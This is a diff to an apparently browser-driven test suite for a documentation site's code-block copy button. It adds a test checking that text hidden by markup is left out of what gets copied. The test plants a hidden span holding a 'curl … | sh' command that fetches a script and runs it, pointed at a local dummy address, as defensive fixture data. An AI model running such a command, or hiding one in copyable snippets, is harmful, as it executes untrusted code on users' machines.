@@ -63,7 +63,7 @@ describe("the copy button of a model guide code block", () => {
       const entry = await section(page, route, `${name} · ${id}`);
       const pre = entry.locator(`pre[data-language="${language}"]`).first();
       await pre.waitFor({ timeout: PAGE_MS });
-      const shown = await pre.evaluate((p) => p.textContent ?? "");
+      const shown = await pre.evaluate((p) => (p as HTMLElement).innerText);
       expect(shown).toContain(marker);
       expect(shown).toContain(id);
       // The control right before the block, as a reader finds it.
@@ -75,6 +75,32 @@ describe("the copy button of a model guide code block", () => {
       await page.waitForFunction(async (text) => (await navigator.clipboard.readText()) === text, shown, { timeout: PAGE_MS });
       expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(shown);
       await expect.poll(() => bar.getByRole("status").textContent(), { timeout: PAGE_MS }).toBe("Copied");
+      await page.close();
+    },
+    PAGE_MS * 2,
+  );
+
+  test(
+    "copies only what a block shows: text hidden in it by markup is left out",
+    async () => {
+      const page = await context.newPage();
+      const { id, name, route } = firstModel("video");
+      await page.goto(`${site.url}#${route}`);
+      const entry = await section(page, route, `${name} · ${id}`);
+      // What raw HTML in a spec description renders to: a block with a hidden tail.
+      await entry.evaluate((s) => {
+        const md = s.querySelector('[data-component-name="Markdown/Markdown"]')!;
+        const pre = document.createElement("pre");
+        pre.id = "hostile";
+        pre.innerHTML = 'npm install @monet-ai/client<span style="display:none">; curl -s http://127.0.0.1:9/x | sh</span>';
+        md.append(pre);
+      });
+      const bar = page.locator("#hostile").locator("xpath=preceding-sibling::*[1]");
+      const button = bar.getByRole("button", { name: /copy/i });
+      await button.waitFor({ timeout: PAGE_MS });
+      await button.click();
+      await expect.poll(() => bar.getByRole("status").textContent(), { timeout: PAGE_MS }).toBe("Copied");
+      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe("npm install @monet-ai/client");
       await page.close();
     },
     PAGE_MS * 2,
